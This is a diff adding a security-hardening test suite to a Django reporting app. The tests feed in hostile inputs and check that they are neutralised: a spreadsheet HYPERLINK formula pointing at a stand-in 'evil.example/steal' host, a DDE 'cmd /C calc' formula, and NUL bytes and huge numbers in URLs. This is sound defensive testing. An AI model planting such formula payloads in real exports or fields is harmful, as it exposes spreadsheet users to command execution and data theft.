@@ -1,0 +1,203 @@
+"""Hardening (issue 13), the findings replayed: control characters never reach a page, an export or the database;
+exports never run formulas; malformed ids and numbers are refused, never an error page; private pages are not
+cached; the public development key is never served."""
+
+from __future__ import annotations
+
+import io
+
+import pytest
+from django.core.management import CommandError, call_command
+from django.test import Client, override_settings
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from ttdn.core.money import MAX_VND, MoneyError, parse_vnd
+from ttdn.core.sheets import safe, to_csv
+from ttdn.core.text import as_id, without_controls
+
+
+def _client(user):  # noqa: ANN001, ANN202
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+@given(st.text())
+def test_no_control_character_survives(text: str) -> None:
+    clean = without_controls(text)
+    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in clean)
+    kept = without_controls(text, keep_lines=True)
+    assert set(kept) - set(clean) <= {"\t", "\n", "\r"}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/orgs/?q=qu%00ang&kind=province",
+        "/orgs/?as_of=31/12/2012%00",
+        "/tasks/?unit=T44%00-2025",
+        "/tasks/?document=1000000000000000000000000000000",
+        "/tasks/?document=abc",
+        "/tasks/overdue/?unit=%00",
+        "/docs/?q=%00%01chi+thi",
+        "/reporting/forms/ttdn_nam/2026/?under=T44%00&q=%01",
+        "/reporting/tracking/?from=2011%00&to=2012",
+    ],
+)
+def test_a_nul_or_a_huge_id_in_a_query_is_no_error_page(url: str, user) -> None:  # noqa: ANN001
+    response = _client(user("cuc.canbo")).get(url)
+    assert response.status_code < 500
+
+
+@pytest.mark.django_db
+def test_a_control_character_in_a_title_never_reaches_the_database_or_an_export(user, unit) -> None:  # noqa: ANN001
+    from ttdn.plans import services
+    from ttdn.plans.models import Activity
+
+    officer = user("quangtri.canbo")
+    plan = services.create_plan(officer, unit("T44-2025"), 2034)
+    client = _client(officer)
+    response = client.post(
+        f"/plans/{plan.pk}/",
+        {"action": "save_activity", "title": "Hội\x00 nghị\x01 báo chí", "category": "tap_huan"},
+    )
+    assert response.status_code < 500
+    titles = list(Activity.objects.filter(plan=plan).values_list("title", flat=True))
+    assert titles and all("\x00" not in t and "\x01" not in t for t in titles)
+    Activity.objects.filter(plan=plan).update(title="Hội\x01 nghị\x0b")  # an old row, written before the rule
+    assert client.get(f"/plans/{plan.pk}/plan.docx").status_code == 200
+    assert client.get(f"/plans/{plan.pk}/budget.xlsx").status_code == 200
+
+
+@pytest.mark.django_db
+def test_exports_write_formulas_as_text(user, unit) -> None:  # noqa: ANN001
+    from ttdn.plans import services
+
+    officer = user("quangtri.canbo")
+    plan = services.create_plan(officer, unit("T44-2025"), 2035)
+    evil = '=HYPERLINK("http://evil.example/steal","Bấm vào")'
+    services.save_activity(officer, plan, {"title": evil, "category": "tap_huan"}, [])
+    sheet = load_workbook(io.BytesIO(_client(officer).get(f"/plans/{plan.pk}/budget.xlsx").content)).active
+    cells = [
+        c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value
+    ]
+    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
+    assert to_csv(["a"], [["=1+1"], ["+1"], ["-1"], ["@SUM(A1)"], ["an toàn"]]).decode(
+        "utf-8-sig"
+    ).splitlines() == [
+        "a",
+        "'=1+1",
+        "'+1",
+        "'-1",
+        "'@SUM(A1)",
+        "an toàn",
+    ]
+    assert safe("- một dòng") == "- một dòng" and safe("- một dòng", csv=True) == "'- một dòng"
+
+
+@pytest.mark.django_db
+def test_the_tasks_csv_writes_formulas_as_text(user) -> None:  # noqa: ANN001
+    from ttdn.tasks.models import Duty
+
+    duty = Duty.objects.filter(tasks__isnull=False).first()
+    if duty is None:
+        pytest.skip("no issued duty in the demo data")
+    Duty.objects.filter(pk=duty.pk).update(text="=cmd|' /C calc'!A0")
+    body = (
+        _client(user("cuc.canbo"))
+        .get(f"/tasks/?document={duty.document_id}&export=csv")
+        .content.decode("utf-8-sig")
+    )
+    assert "'=cmd|" in body and "\n=cmd|" not in body and ",=cmd|" not in body
+
+
+def test_money_and_counts_have_one_bound_however_many_digits() -> None:
+    assert parse_vnd("10.000.000.000.000") == MAX_VND
+    with pytest.raises(MoneyError, match="quá lớn"):
+        parse_vnd("1" * 4300)  # would not even parse as a Python int
+    with pytest.raises(MoneyError, match="quá lớn"):
+        parse_vnd(str(10**30))
+    assert parse_vnd("0000000000000000000000000000001") == 1
+
+
+@pytest.mark.django_db
+def test_a_report_refuses_a_figure_of_4300_digits(user) -> None:  # noqa: ANN001
+    from ttdn.reporting.models import Submission
+
+    client = _client(user("quangtri.canbo"))
+    url = "/reporting/forms/ttdn_nam/2026/T44-2025/"
+    response = client.post(url, {"action": "autosave", "v_so_lop_tap_huan": "9" * 4300})
+    assert response.status_code == 400 and "so_lop_tap_huan" in response.json()["errors"]
+    sub = Submission.objects.filter(form__code="ttdn_nam", period="2026", unit__code="T44-2025").first()
+    assert sub is None or len(str(sub.values.get("so_lop_tap_huan", ""))) < 20
+
+
+@given(st.text(max_size=30))
+def test_an_id_is_a_positive_number_that_fits_or_nothing(raw: str) -> None:
+    value = as_id(raw)
+    assert value is None or 0 < value <= 2**63 - 1
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("activity", ["abc", "1e5", "-1", "99999999999999999999999", "١٢"])
+def test_a_malformed_activity_id_is_not_found(activity: str, user, unit) -> None:  # noqa: ANN001
+    from ttdn.plans.models import Plan
+
+    officer = user("quangtri.canbo")
+    plan = Plan.objects.filter(unit__code="T44-2025").first()
+    if plan is None:
+        pytest.skip("no demo plan")
+    client = _client(officer)
+    for action in ("save_activity", "delete_activity"):
+        response = client.post(f"/plans/{plan.pk}/", {"action": action, "activity": activity, "title": "x"})
+        assert response.status_code in (302, 400, 403, 404)
+    assert client.post(f"/plans/{plan.pk}/actual/", {"activity": activity}).status_code in (
+        302,
+        400,
+        403,
+        404,
+    )
+    assert client.post("/plans/staff/", {"action": "course", "activity": activity}).status_code < 500
+
+
+@pytest.mark.django_db
+def test_private_pages_are_not_cached(user) -> None:  # noqa: ANN001
+    client = _client(user("quangtri.canbo"))
+    for url in ("/", "/tasks/", "/plans/", "/reporting/", "/orgs/T44-2025/private/"):
+        assert client.get(url)["Cache-Control"] == "private, no-store", url
+    anonymous = Client().get(
+        "/orgs/", follow=False
+    )  # anonymous: sent to the login page, nothing to keep private
+    assert anonymous.status_code == 302 and anonymous.get("Cache-Control") != "private, no-store"
+
+
+@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.text(min_size=1, max_size=40))
+@pytest.mark.django_db
+def test_any_query_text_gives_a_page(user, text: str) -> None:  # noqa: ANN001
+    client = _client(user("quangtri.canbo"))
+    for url in ("/tasks/", "/docs/", "/orgs/"):
+        assert client.get(url, {"q": text, "unit": text, "document": text}).status_code < 500
+
+
+def test_serve_refuses_the_public_development_key(tmp_path) -> None:  # noqa: ANN001
+    from django.conf import settings as django_settings
+
+    development = override_settings(SECRET_KEY=django_settings.DEVELOPMENT_KEY, DEBUG=False)
+    with development, pytest.raises(CommandError, match="khóa phát triển"):
+        call_command("serve", "--port", "1")
+
+
+def test_setup_writes_a_key_once(tmp_path, monkeypatch) -> None:  # noqa: ANN001
+    from ttdn.site.management.commands.setup import ensure_secret_key
+
+    monkeypatch.delenv("TTDN_SECRET_KEY", raising=False)
+    path = tmp_path / "var" / "secret_key"
+    with override_settings(SECRET_KEY_FILE=path):
+        assert ensure_secret_key() is True
+        key = path.read_text()
+        assert len(key) >= 50 and ensure_secret_key() is False and path.read_text() == key
+        assert oct(path.stat().st_mode & 0o777) == "0o600"
